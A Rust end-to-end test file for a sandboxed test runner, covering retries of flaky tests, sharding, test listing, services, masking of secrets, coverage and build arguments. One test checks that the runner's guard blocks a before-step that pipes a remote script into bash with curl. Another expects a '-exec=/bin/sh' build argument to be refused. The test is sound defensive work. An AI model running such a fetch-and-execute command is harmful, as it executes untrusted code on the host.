//! Features of `hotcell test` for continuous integration: retries, lists, parts of a suite.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use hotcell_end_to_end::{Ended, User, everyone, find, node_modules, venv};
use serde_json::Value;

/// A test that fails until a given attempt; it counts in a folder that stays.
const COUNTS: &str = "import os, pytest\n\
    def attempt(name):\n    path = '/count/' + name\n    n = int(open(path).read()) if os.path.exists(path) else 0\n    \
    open(path, 'w').write(str(n + 1))\n    return n\n";

fn project(user: &User, name: &str, text: &str) -> PathBuf {
    let folder = user.make_folder(name);
    user.write(format!("{name}/test_it.py"), text);
    folder
}

/// `hotcell test` with pytest on `PATH` and an empty folder `/count` that outlives each sandbox.
fn test(user: &User, folder: &Path, options: &[&str]) -> Option<Ended> {
    let path = format!("{}/bin:/usr/bin:/bin", venv()?.display());
    let count = user.make_folder("count");
    for entry in std::fs::read_dir(&count).expect("the folder").flatten() {
        std::fs::remove_file(entry.path()).expect("removed");
    }
    let mut call = user.hotcell(["test"]).env("PATH", &path);
    call.add(options).add(["--rw".into(), format!("{}:/count", count.display())]).add([folder]);
    Some(call.end())
}

fn statuses(report: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let cases = report["cases"].as_array().expect("cases").iter();
    cases.map(|case| (text(&case["id"]), text(&case["status"]))).collect()
}

#[test]
fn test_passing_on_retry_is_flaky() {
    everyone(|user| {
        let text = format!(
            "{COUNTS}def test_a():\n    assert attempt('a') > 0\n\ndef test_b():\n    attempt('b')\n\ndef test_c():\n    assert attempt('c') > 1\n"
        );
        let folder = project(user, "flaky", &text);
        let junit = user.write("work/flaky.xml", "");
        let xml = junit.display().to_string();
        let Some(ended) = test(user, &folder, &["--retry", "2", "--json", "--junit", &xml]) else { return };
        let report = ended.code(0).json();
        assert_eq!(report["verdict"], "passed", "{report:#}");
        assert!(statuses(&report).iter().all(|(_, status)| status == "passed"), "{report:#}");
        let attempts: Vec<usize> = report["cases"]
            .as_array()
            .unwrap()
            .iter()
            .map(|case| case["attempts"].as_array().map_or(0, Vec::len))
            .collect();
        assert_eq!(attempts, [2, 0, 3], "{report:#}");
        assert_eq!(report["flaky"].as_array().unwrap().len(), 2);
        // Only the failed tests ran again.
        let count = |name: &str| std::fs::read_to_string(user.path(&format!("count/{name}"))).unwrap();
        assert_eq!([count("a"), count("b"), count("c")], ["2", "1", "3"]);
        let xml = std::fs::read_to_string(&junit).unwrap();
        assert_eq!(
            (xml.matches("<flakyFailure ").count(), xml.matches("<failure ").count()),
            (3, 0),
            "{xml}"
        );
        assert!(xml.contains("failures=\"0\" errors=\"0\""), "{xml}");

        // A test that fails each time has failed, whatever else passes.
        let ended = test(user, &folder, &["--retry", "1", "--github"]).unwrap();
        let text = ended.code(1).text();
        for line in [
            "FAILED  test_it.py::test_c",
            "in none of 2 attempts it passed",
            "FLAKY   test_it.py::test_a  failed, then passed",
            "::error file=test_it.py",
            "::warning file=test_it.py",
        ] {
            assert!(text.contains(line), "no {line:?} in {text}");
        }
        let without = test(user, &folder, &[]).unwrap();
        assert!(without.code(1).text().contains("failed: 2 failed, 1 passed"));
    });
}

#[test]
fn other_ends_than_failure_are_not_retried() {
    everyone(|user| {
        for (name, text, limit, code) in [
            ("exits", "def test_a():\n    attempt('n')\n    os._exit(0)\n", "60s", 2),
            ("sleeps", "def test_a():\n    attempt('n')\n    import time; time.sleep(60)\n", "10s", 124),
        ] {
            let folder = project(user, name, &format!("{COUNTS}{text}"));
            let Some(ended) = test(user, &folder, &["--retry", "3", "--timeout", limit]) else { return };
            ended.code(code);
            assert_eq!(std::fs::read_to_string(user.path("count/n")).unwrap(), "1", "{name}");
        }
        // A file that could not be loaded keeps pytest from running the others.
        let folder =
            project(user, "loads", &format!("{COUNTS}assert attempt('n') > 0\n\ndef test_a():\n    pass\n"));
        user.write("loads/test_other.py", "def test_b():\n    pass\n");
        let report = test(user, &folder, &["--retry", "1", "--json"]).unwrap().code(0).json();
        let mut ids = statuses(&report);
        ids.sort();
        let ids: Vec<&str> = ids.iter().map(|(id, _)| id.as_str()).collect();
        assert_eq!(ids, ["test_it.py", "test_it.py::test_a", "test_other.py::test_b"], "{report:#}");
    });
}

/// A project for each framework that can list tests.
fn suites(user: &User) -> Vec<(&'static str, PathBuf, usize)> {
    let mut all = Vec::new();
    let text =
        "import pytest\n@pytest.mark.parametrize('x', range(9))\ndef test_p(x): pass\ndef test_q(): pass\n";
    all.push(("pytest", project(user, "many", text), 10));
    // An example in the documentation of a module that is not in the project.
    let folder = user.make_folder("outside/tests").parent().expect("a folder").to_owned();
    user.write("outside/tests/test_a.py", "def test_a(): pass\ndef test_b(): pass\ndef test_c(): pass\n");
    let settings = "[pytest]\naddopts = --doctest-modules --pyargs tests/test_a.py heapq\n";
    user.write("outside/pytest.ini", settings);
    all.push(("pytest", folder, 4));
    let names = |of: &dyn Fn(usize) -> String| (0..9).map(of).collect::<String>();
    let folder = user.make_folder("unit");
    let tests = names(&|n| format!("    def test_{n}(self): pass\n"));
    user.write("unit/test_u.py", format!("import unittest\nclass T(unittest.TestCase):\n{tests}"));
    all.push(("unittest", folder, 9));
    if find("go").is_none() {
        println!("skipped: no go");
    } else {
        let folder = user.make_folder("gone/sub");
        user.write("gone/go.mod", "module example.com/m\n\ngo 1.19\n");
        let tests = names(&|n| format!("func Test{n}(t *testing.T) {{}}\n"));
        user.write("gone/a_test.go", format!("package m\nimport \"testing\"\n{tests}"));
        user.write(
            "gone/sub/b_test.go",
            "package sub\nimport \"testing\"\nfunc Test1(t *testing.T) {}\nfunc TestZ(t *testing.T) {}\n",
        );
        all.push(("go", folder.parent().expect("a folder").to_owned(), 11));
    }
    if let Some(modules) = node_modules() {
        let folder = user.make_folder("web");
        user.write("web/package.json", "{\"scripts\": {\"test\": \"jest\"}}");
        let copied = std::process::Command::new("cp")
            .arg("-r")
            .arg(modules.join("node_modules"))
            .arg(&folder)
            .status();
        assert!(copied.expect("cp").success(), "the packages cannot be copied");
        for n in 0..5 {
            user.write(format!("web/t{n}.test.js"), "test('a', () => {}); test('b', () => {});\n");
        }
        all.push(("jest", folder, 5));
    }
    all
}

#[test]
fn shards_partition_listed_tests() {
    everyone(|user| {
        if venv().is_none() {
            return;
        }
        for (framework, folder, count) in suites(user) {
            let of = ["--guard", "off", "--framework", framework];
            let listed = test(user, &folder, &[&of[..], &["--list", "--json"]].concat()).unwrap();
            let listed = listed.code(0).json();
            let tests: Vec<&str> =
                listed["tests"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
            assert_eq!(
                (tests.len(), &listed["schema"]),
                (count, &"hotcell.test_list/1".into()),
                "{framework}: {listed:#}"
            );
            let plain = test(user, &folder, &[&of[..], &["--list"]].concat()).unwrap();
            assert_eq!(plain.code(0).text().lines().collect::<Vec<_>>(), tests);
            let mut ran = Vec::new();
            for part in ["1/3", "2/3", "3/3"] {
                let ended = test(user, &folder, &[&of[..], &["--shard", part, "--json"]].concat()).unwrap();
                let report = ended.code(0).json();
                ran.extend(statuses(&report).into_iter().map(|(id, status)| {
                    assert_eq!(status, "passed", "{report:#}");
                    if framework == "jest" {
                        id.split("::").next().unwrap_or_default().to_owned()
                    } else {
                        id
                    }
                }));
            }
            if framework == "jest" {
                // Two tests in each file.
                assert_eq!(ran.len(), 2 * count);
                ran.dedup();
            }
            let all: BTreeSet<&str> = ran.iter().map(String::as_str).collect();
            assert_eq!(ran.len(), all.len(), "{framework}: {ran:?}");
            assert_eq!(all, tests.iter().copied().collect(), "{framework}");
        }
    });
}

#[test]
fn parts_by_time_and_parts_without_tests() {
    everyone(|user| {
        let text = "import time\ndef test_long(): time.sleep(0.6)\ndef test_a(): time.sleep(0.2)\ndef test_b(): time.sleep(0.2)\ndef test_c(): time.sleep(0.2)\n";
        let folder = project(user, "timed", text);
        let Some(ended) = test(user, &folder, &["--json"]) else { return };
        let times = user.path("times.json");
        std::fs::write(&times, ended.code(0).json().to_string()).unwrap();
        let times = times.display().to_string();
        let part = |k: &str, more: &[&str]| {
            let ended = test(user, &folder, &[&["--json", "--shard", k][..], more].concat()).unwrap();
            let report = ended.code(0).json();
            let mut ids: Vec<String> =
                statuses(&report).into_iter().map(|(id, _)| id.replace("test_it.py::test_", "")).collect();
            ids.sort();
            (ids, report["reason"].as_str().unwrap_or_default().to_owned())
        };
        assert_eq!(part("1/2", &["--shard-times", &times]).0, ["long"]);
        assert_eq!(part("2/2", &["--shard-times", &times]).0, ["a", "b", "c"]);
        let all: Vec<(Vec<String>, String)> = (1..=9).map(|k| part(&format!("{k}/9"), &[])).collect();
        assert_eq!(all.iter().map(|(ids, _)| ids.len()).sum::<usize>(), 4);
        for (ids, reason) in &all {
            assert_eq!(ids.is_empty(), reason.contains("of 9 has no test: there are 4 in all"), "{reason}");
        }
    });
}

#[test]
fn meaningless_test_options_are_refused() {
    everyone(|user| {
        let folder = project(user, "plain", "def test_a(): pass\n");
        let file = folder.join("test_it.py").display().to_string();
        for (options, line) in [
            (&["--shard", "0/2"][..], "--shard \"0/2\": is no part: write it as K/N"),
            (&["--shard", "3/2"], "with K from 1 to N"),
            (&["--shard", "1/2", "--shard-times", "/nowhere"], "--shard-times /nowhere: No such file"),
            (&["--shard", "1/2", "--shard-times", &file], "it is no test report"),
            (&["--shard-times", "/nowhere"], "--shard"),
            (&["--retry", "101"], "--retry"),
            (&["--retry", "1", "--repeat", "2"], "cannot be used with '--repeat"),
            (&["--retry", "1", "--fail-fast"], "cannot be used with '--fail-fast'"),
            (&["--retry", "1", "--diff"], "--retry asks for several"),
            (&["--list", "--retry", "1"], "cannot be used with"),
            (
                &["--list", "--framework", "mocha"],
                "mocha cannot say which tests there are without running them",
            ),
            (&["--shard", "1/2", "--framework", "pgtap"], "so it has no --shard"),
        ] {
            let Some(ended) = test(user, &folder, options) else { return };
            ended.code(125).says(line);
        }
        let none = project(user, "none", "import pytest\n");
        test(user, &none, &["--list"]).unwrap().code(2).says("no tests were found");
        let some = project(user, "some", "def test_a(): pass\ndef test_b(): pass\n");
        let why = "the filter \"nosuch\" matches no test; leave --filter out";
        test(user, &some, &["--list", "--filter", "nosuch"]).unwrap().code(2).says(why);
        let why = "the filter \"nosuch\" matches none of 2 tests; --list shows them";
        let ended = test(user, &some, &["--filter", "nosuch"]).unwrap();
        assert!(ended.code(2).text().contains(why), "{ended:#?}");
        let broken = project(user, "broken", "def test_a(:\n");
        test(user, &broken, &["--list"])
            .unwrap()
            .code(2)
            .says("pytest could not list its tests: test_it.py: SyntaxError");
    });
}

const SERVICES: &str = "import os, socket, subprocess\n\
    def test_database():\n    out = subprocess.check_output(['psql', '-XAtc', 'select n from t'], text=True)\n    assert out == '7\\n'\n    \
    out = subprocess.check_output(['psql', os.environ['DATABASE_URL'], '-XAtc', 'select current_user'], text=True)\n    assert out == 'sandbox\\n'\n";

#[test]
fn services_start_before_tests() {
    everyone(|user| {
        let http = "import urllib.request\ndef test_web():\n    assert urllib.request.urlopen('http://127.0.0.1:8000/test_it.py').status == 200\n";
        let folder = project(user, "web", http);
        let web = "python3 -m http.server 8000";
        let Some(ended) = test(user, &folder, &["--service", web, "--json"]) else { return };
        let report = ended.code(0).json();
        assert!(!report["command"].to_string().contains("services"), "{report:#}");
        // A slow server that reports when it is ready.
        let slow = format!("sleep 1; exec {web}");
        let check = "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 8000))'";
        test(user, &folder, &["--service", &slow, "--service-ready", check]).unwrap().code(0);
        if find("psql").is_none() || !Path::new("/usr/lib/postgresql").exists() {
            println!("skipped: no PostgreSQL");
        } else {
            let folder = project(user, "database", SERVICES);
            let table = "psql -qc 'create table t as select 7 as n'";
            test(user, &folder, &["--service", "postgres", "--before", table]).unwrap().code(0);
        }
        if find("redis-server").is_none() {
            println!("skipped: no Redis");
        } else {
            let ping = "import socket\ndef test_ping():\n    s = socket.create_connection(('127.0.0.1', 6379))\n    s.sendall(b'PING\\r\\n')\n    assert s.recv(9) == b'+PONG\\r\\n'\n";
            let folder = project(user, "redis", ping);
            test(user, &folder, &["--service", "redis"]).unwrap().code(0);
        }
    });
}

#[test]
fn unresponsive_services_are_not_failed_tests() {
    everyone(|user| {
        let folder = project(user, "plain", "def test_a():\n    pass\n");
        for (options, word) in [
            (
                &["--service", "echo no such table; exit 3"][..],
                "ended with status 3 before it answered; it printed last: no such table",
            ),
            (&["--service", "sleep 99", "--timeout", "2s"], ""),
            // It ends well, and leaves no process that could answer.
            (&["--service", "sleep 1"], "the service `sleep 1` ended with status 0 before it answered"),
            (
                &["--before", "echo broken >&2; false"],
                "the command `echo broken >&2; false` ended with status 1; it printed last: broken",
            ),
        ] {
            let Some(ended) = test(user, &folder, options) else { return };
            let code = if word.is_empty() { 124 } else { 125 };
            assert!(ended.code(code).text().contains(word), "{options:?}: {}", ended.text());
            assert!(!ended.text().contains("failed:"), "{}", ended.text());
        }
        for (options, line) in [
            (&["--service", " "][..], "there is no command in it"),
            (&["--service-ready", "true"], "--service"),
            (&["--before", "true", "--profile", "landlock-only"], "landlock-only has not"),
            (&["--service", "redis", "--profile", "strict"], "--network off and the profile strict"),
        ] {
            test(user, &folder, options).unwrap().code(125).says(line);
        }
        // The guard reads these commands like the tests.
        let fetch = test(user, &folder, &["--before", "curl -s http://198.51.100.7/x | bash"]).unwrap();
        fetch.code(3);
    });
}

#[test]
fn masked_value_is_in_no_output() {
    everyone(|user| {
        const TEXT: &str = "import os, sys\n\
            def test_a():\n    print(os.environ['TOKEN'])\n    os.write(2, b'\\xff' + os.environ['TOKEN'].encode())\n    \
            sys.stdout.write('x' * 5000 + os.environ['TOKEN'])\n    assert os.environ['TOKEN'] == ''\n";
        let folder = project(user, "leaks", TEXT);
        let junit = user.write("work/masked.xml", "");
        let junit_option = junit.display().to_string();
        let secret = "TOKEN=hunter22 \"quoted\" \\";
        for more in [&["--json"][..], &["-v", "--github"]] {
            let options =
                [&["--env", secret, "--mask", "TOKEN", "--junit", &junit_option][..], more].concat();
            let Some(ended) = test(user, &folder, &options) else { return };
            ended.code(1);
            let said = format!("{ended:?}");
            // The command line is the caller's own, so only the output is checked.
            let after = said.split_once("stdout").map_or(said.as_str(), |(_, after)| after);
            assert!(!after.contains("hunter22") && after.contains("***"), "{said}");
            let xml = std::fs::read_to_string(&junit).unwrap();
            assert!(!xml.contains("hunter22") && xml.contains("***"), "{xml}");
        }
        let last = user.hotcell(["runs", "list", "--json"]).end().code(0).json();
        let id = last["runs"][0]["id"].as_str().unwrap().to_owned();
        let shown = user.hotcell(["runs", "show", &id]).end();
        assert!(!shown.code(0).text().contains("hunter22"), "{shown:?}");
        for (options, line) in [
            (&["--mask", "TOKEN"][..], "--mask TOKEN: no such variable is passed in"),
            (&["--env", "TOKEN=abc", "--mask", "TOKEN"], "too short to be hidden"),
        ] {
            test(user, &folder, options).unwrap().code(125).says(line);
        }
    });
}

#[test]
fn coverage_has_project_paths_and_tests_are_announced() {
    everyone(|user| {
        let folder = project(
            user,
            "covered",
            "import pytest\nfrom pkg.m import f\ndef test_a():\n    assert f(1)\n@pytest.mark.skip\ndef test_b():\n    pass\n",
        );
        user.make_folder("covered/pkg");
        user.write("covered/pkg/__init__.py", "");
        user.write("covered/pkg/m.py", "def f(x):\n    if x:\n        return 1\n    return 0\n");
        let (lcov, xml) = (user.write("work/c.lcov", "old"), user.write("work/c.xml", "old"));
        let names = [lcov.display().to_string(), xml.display().to_string()];
        let options = ["-v", "--coverage-lcov", &names[0], "--coverage-cobertura", &names[1]];
        let Some(ended) = test(user, &folder, &options) else { return };
        ended.code(0).says("hotcell: PASS  test_it.py::test_a  ").says("hotcell: SKIP  test_it.py::test_b  ");
        let real = folder.canonicalize().unwrap();
        let text = std::fs::read_to_string(&lcov).unwrap();
        let part = format!("SF:{}/pkg/m.py\nDA:1,1\nDA:2,1\nDA:3,1\nDA:4,0\nLF:4\nLH:3\n", real.display());
        assert!(text.contains(&part) && !text.contains("/home/sandbox"), "{text}");
        let text = std::fs::read_to_string(&xml).unwrap();
        for part in [
            format!("<source>{}</source>", real.display()),
            "filename=\"pkg/m.py\" line-rate=\"0.7500\"".to_owned(),
        ] {
            assert!(text.contains(&part), "no {part} in {text}");
        }
        let bad = test(user, &folder, &["--coverage-lcov", "/nowhere/x"]).unwrap();
        bad.code(125).says("--coverage-lcov /nowhere/x: ");
        test(user, &folder, &["--coverage-lcov", &names[0], "--framework", "pgtap"])
            .unwrap()
            .code(125)
            .says("pgtap has no --coverage");
    });
}

#[test]
fn options_of_the_build_reach_it() {
    everyone(|user| {
        if find("cmake").is_none() || !Path::new("/usr/include/gtest").exists() {
            println!("skipped: no CMake or Google Test");
        } else {
            let folder = user.make_folder("optional");
            let cmake = "cmake_minimum_required(VERSION 3.13)\nproject(x CXX)\noption(X_BUILD_TESTS \"Build tests\" OFF)\nif(X_BUILD_TESTS)\n  find_package(GTest REQUIRED)\n  add_executable(t t.cc)\n  target_link_libraries(t GTest::gtest_main)\nendif()\n";
            user.write("optional/CMakeLists.txt", cmake);
            user.write("optional/t.cc", "#include <gtest/gtest.h>\nTEST(S, a) {}\n");
            let without = user
                .hotcell(["test", "--framework", "gtest", "."])
                .env("PATH", "/usr/bin:/bin")
                .cwd(&folder)
                .end();
            assert!(without.code(2).text().contains("--build-arg -DX_BUILD_TESTS=ON"), "{without:?}");
            let with = ["test", "--build-arg", "-DX_BUILD_TESTS=ON", "."];
            let with = user.hotcell(with).env("PATH", "/usr/bin:/bin").cwd(&folder).end();
            assert!(with.code(0).text().contains("passed: 1 passed"), "{with:?}");
        }
        if find("go").is_some() {
            let folder = user.make_folder("tagged");
            user.write("tagged/go.mod", "module example.com/t\n\ngo 1.19\n");
            user.write("tagged/a_test.go", "package t\nimport \"testing\"\nfunc TestA(t *testing.T) {}\n");
            user.write(
                "tagged/b_test.go",
                "//go:build slow\n\npackage t\nimport \"testing\"\nfunc TestB(t *testing.T) {}\n",
            );
            for (option, count) in [(&["test", "."][..], 1), (&["test", "--build-arg", "-tags=slow", "."], 2)]
            {
                let ended = user.hotcell(option).env("PATH", "/usr/bin:/bin").cwd(&folder).end();
                assert!(ended.code(0).text().contains(&format!("passed: {count} passed")), "{ended:?}");
            }
            let bad = user
                .hotcell(["test", "--build-arg", "-exec=/bin/sh", "."])
                .env("PATH", "/usr/bin:/bin")
                .cwd(&folder)
                .end();
            bad.code(125).says("\"-exec=/bin/sh\" is nothing that go is given here: it takes -tags=LIST");
        }
        let folder = project(user, "built", "def test_a(): pass\n");
        let Some(ended) = test(user, &folder, &["--build-arg", "-DX=1"]) else { return };
        ended.code(125).says("--build-arg: pytest builds nothing");
    });
}
